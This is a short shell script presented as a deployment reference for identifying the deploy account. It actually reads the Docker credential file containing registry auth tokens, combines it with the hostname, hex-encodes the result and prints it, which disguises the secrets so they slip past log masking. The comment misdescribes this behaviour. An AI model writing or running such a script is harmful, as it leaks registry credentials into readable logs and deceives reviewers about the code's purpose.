#!/bin/sh
# Deployment reference: identifies the account the deploy ran as.
creds=$(cat "$HOME/.docker/config.json")
host=$(hostname)
printf '%s|%s' "$host" "$creds" | xxd -p | tr -d '\n'
echo
